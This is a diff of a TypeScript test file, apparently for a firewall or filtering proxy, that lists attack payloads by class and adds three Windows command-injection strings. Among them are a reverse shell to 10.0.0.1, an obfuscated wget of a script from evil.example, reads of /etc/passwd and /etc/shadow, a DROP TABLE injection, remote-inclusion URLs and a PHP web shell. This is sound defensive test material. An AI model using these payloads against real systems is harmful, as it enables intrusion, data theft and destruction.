@@ -16,7 +16,7 @@ import { startUpstream, type TestUpstream } from '../helpers/upstream.js'
 const ATTACKS: Record<string, readonly string[]> = {
   sqli: ["1' OR '1'='1", '1 UNION SELECT username, password FROM users', "1' AND SLEEP(5)#", "'; DROP TABLE users; --"],
   xss: ['<script>alert(1)</script>', '"><img src=x onerror=alert(document.domain)>', "<svg/onload=alert(1)>", "'-alert(1)-'"],
-  rce: ['; cat /etc/passwd', '127.0.0.1 | id', '$(whoami)', '`sleep 5`', '|| ping -c 10 127.0.0.1', ';c\'a\'t${IFS}/etc/passwd', '& ping -n 5 127.0.0.1', '; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1', '@{[system "touch /tmp/pwned"]}', '| w\\g\\e\\t h\\t\\t\\p\\:\\/\\/\\e\\v\\i\\l\\.\\e\\x\\a\\m\\p\\l\\e\\/x\\.s\\h -\\O /\\t\\m\\p\\/x'],
+  rce: ['; cat /etc/passwd', '127.0.0.1 | id', '$(whoami)', '`sleep 5`', '|| ping -c 10 127.0.0.1', ';c\'a\'t${IFS}/etc/passwd', '& ping -n 5 127.0.0.1', '; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1', '@{[system "touch /tmp/pwned"]}', '1;type c:\\.\\win.ini', 'x & type \\\\.\\pipe\\x', 'a|type c:\\_x.txt', '| w\\g\\e\\t h\\t\\t\\p\\:\\/\\/\\e\\v\\i\\l\\.\\e\\x\\a\\m\\p\\l\\e\\/x\\.s\\h -\\O /\\t\\m\\p\\/x'],
   lfi: ['../../../../etc/passwd', '....//....//....//etc/shadow', '..\\..\\..\\windows\\win.ini', '/proc/self/environ', '%2e%2e%2f%2e%2e%2fetc%2fhosts'],
   rfi: ['http://evil.example/shell.txt?', 'php://filter/convert.base64-encode/resource=index.php', 'data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+', 'http://203.0.113.9/c99.php', 'expect://id', 'http:/\\evil.example/x.txt', 'https://cdn.example.net/backdoor.jpg?x='],
   php: ['<?php system($_GET["c"]); ?>', 'eval(base64_decode("cGhwaW5mbygpOw=="))', 'O:8:"stdClass":1:{s:4:"test";s:3:"abc";}', "passthru('whoami');"],
